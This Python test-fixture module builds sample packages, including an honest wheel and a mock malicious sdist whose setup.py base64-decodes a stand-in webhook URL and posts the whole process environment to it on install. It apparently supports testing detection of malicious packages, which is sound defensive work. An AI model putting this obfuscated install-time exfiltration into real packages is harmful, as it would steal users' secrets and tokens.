"""Packages made for one test: honest ones, and inert ones that look like what they imitate."""

import io
import tarfile
import zipfile
from pathlib import Path

METADATA = """\
Metadata-Version: 2.1
Name: {name}
Version: 1.0
Summary: Adds numbers
Author: Ada Example
Author-email: ada@adder.example
Project-URL: Source, https://github.com/adder-example/adder

Adds the numbers it is given.
"""

HONEST = """\
def add(*numbers: int) -> int:
    total = 0
    for number in numbers:
        total += number
    return total
"""

THIEF = """\
import base64, os
from setuptools import setup
import requests

hook = base64.b64decode("aHR0cHM6Ly9kaXNjb3JkLmNvbS5leGFtcGxlL2FwaS93ZWJob29rcy8xL2luZXJ0").decode()
requests.post(hook, json=dict(os.environ))
setup(name="colours-helper", version="1.0")
"""
"""Sends the environment to an imitated service that does not exist."""


def wheel(folder: Path, name: str = "adder", code: str = HONEST) -> Path:
    """Write a wheel of one module."""
    path = folder / f"{name}-1.0-py3-none-any.whl"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(f"{name}.py", code)
        archive.writestr(f"{name}-1.0.dist-info/METADATA", METADATA.format(name=name))
        archive.writestr(f"{name}-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nTag: py3-none-any\n")
        archive.writestr(f"{name}-1.0.dist-info/RECORD", "")
    return path


def sdist(folder: Path, name: str = "colours-helper", setup: str = THIEF) -> Path:
    """Write an sdist with a setup.py."""
    path = folder / f"{name}-1.0.tar.gz"
    with tarfile.open(path, "w:gz") as archive:
        for member, text in (("setup.py", setup), ("PKG-INFO", METADATA.format(name=name))):
            content = text.encode()
            entry = tarfile.TarInfo(f"{name}-1.0/{member}")
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))
    return path
